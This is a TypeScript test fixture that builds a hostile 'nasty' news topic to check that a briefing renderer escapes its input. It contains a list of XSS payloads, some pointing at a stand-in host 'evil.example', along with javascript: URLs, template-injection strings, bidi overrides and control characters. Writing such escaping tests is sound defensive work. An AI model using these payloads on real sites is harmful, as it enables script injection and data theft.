// A topic that somebody wrote to get script, markup or disorder onto the page: its title, names, article, and address.
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Article } from '../../src/core/article.ts';
import type { Edition, Library } from '../../src/core/seams.ts';
import { brief } from '../../src/engine/brief.ts';

/** What script would set that ran, whichever way it came. */
export const CANARY = 'readoutCanary';
const RUN = `window.${CANARY}=1,alert(1)`;
const OFF = 'https://evil.example/take';

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src="${OFF}.js"></script>`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `"><img src=x onerror="${RUN}">`,
  `'><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}" autofocus onfocus="${RUN}">here</a>`,
  `<link rel=stylesheet href="${OFF}.css"><style>@import "${OFF}.css";*{display:none!important}</style>`,
  `<meta http-equiv=refresh content="0;url=${OFF}"><base href="${OFF}/">`,
  `<form action="${OFF}"><button formaction="javascript:${RUN}">`,
  `<object data="${OFF}.swf"></object><embed src="${OFF}.swf"><video src="${OFF}.mp4" autoplay>`,
  `</title></textarea></style></script></article></main></body></html><!-- <![CDATA[ ]]> <p id="main" class=evidence>`,
  `<p style="position:fixed;inset:0;background:url(${OFF}.png)" onmouseover="${RUN}">`,
  `&lt;b&gt; &#60;script&#62; &amp;amp; \${${RUN}} {{constructor.constructor('${RUN}')()}}`,
];
const PEOPLE = ['China', 'France', 'Brazil', 'Egypt', 'Japan', 'Kenya'];
const DEEDS = ['pledged to support', 'agreed to open', 'intends to send', 'called on all sides to respect'];

/** One sentence for each, so that each is a line of the briefing too; then disorder of other kinds. */
export const NASTY_TEXT: string = [
  ...SCRIPTS.map((one, i) => `${PEOPLE[i % 6]} ${DEEDS[i % 4]} ${one} the plan, the minister said on Monday.`),
  'Brazil \u202Esessor eht\u202C rejected the \u2066unclosed treaty \u202Bon rivers.',
  'Kenya pledged to \u0007keep the \0 null \u{E0041}\u{E0042} peace\u2028and\u0085order \u200Bhere, the minister said.',
  `France pledged to support ${'W'.repeat(10_000)} today, the minister said.`,
  `وتعهدت مصر بدعم ${'ط'.repeat(3_000)} الخطة، قال الوزير. China pledged 3 things: "1", (2) and 3.`,
  `Japan agreed to ${'e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(40)} the marks, the minister said.`,
  'Egypt pledged to send \uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 families home, the minister said.',
].join('\n');

const TITLE = `Talks </h1></title><script>${RUN}</script><img src=x onerror=${RUN}> \u202Eolleh`;

/** Writes the topic `nasty`. */
export function writeNasty(briefings: string): void {
  const folder = join(briefings, 'nasty');
  mkdirSync(folder, { recursive: true });
  const title = JSON.stringify(TITLE);
  const named = JSON.stringify(`Kenya"><script>${RUN}</script>`);
  const each = (value: string) => ['ar', 'en', 'es', 'fr', 'ru', 'zh'].map((one) => `${one}: ${value}`).join(', ');
  const names = `names:\n  kenya-board:\n    kind: organisation\n    names: { ${each(named)} }\n    aliases: { en: [Kenya] }\n`;
  writeFileSync(join(folder, 'topic.yaml'), `title: { ${each(title)} }\n${names}`);
  const publisher = JSON.stringify(`Gazette"><svg onload=${RUN}>\u202E`);
  const head = `---\ntitle: ${title}\npublished: 2031-01-06\nlanguage: en\npublisher: ${publisher}\n---\n`;
  writeFileSync(join(folder, '2031-01-06.en.txt'), head + NASTY_TEXT.replaceAll('\0', ''));
}

/** The library with what no file may hold, an address that is none and a NUL, as another source might bring them. */
export function withNastier(library: Library): Library {
  const url = `javascript:${RUN}//https://ok.example`;
  const made = new WeakMap<Article, Pick<Edition, 'article' | 'briefing'>>();
  return {
    ...library,
    open: async (topic, edition) => {
      const opened = await library.open(topic, edition);
      if (topic !== 'nasty') return opened;
      const sha256 = createHash('sha256').update(NASTY_TEXT).digest('hex');
      const article = { ...opened.article, url, text: NASTY_TEXT, sha256 };
      const nastier = made.get(opened.article) ?? {
        article,
        briefing: brief(article, { id: topic, topic: opened.topic }),
      };
      made.set(opened.article, nastier);
      return { ...opened, ...nastier };
    },
  };
}
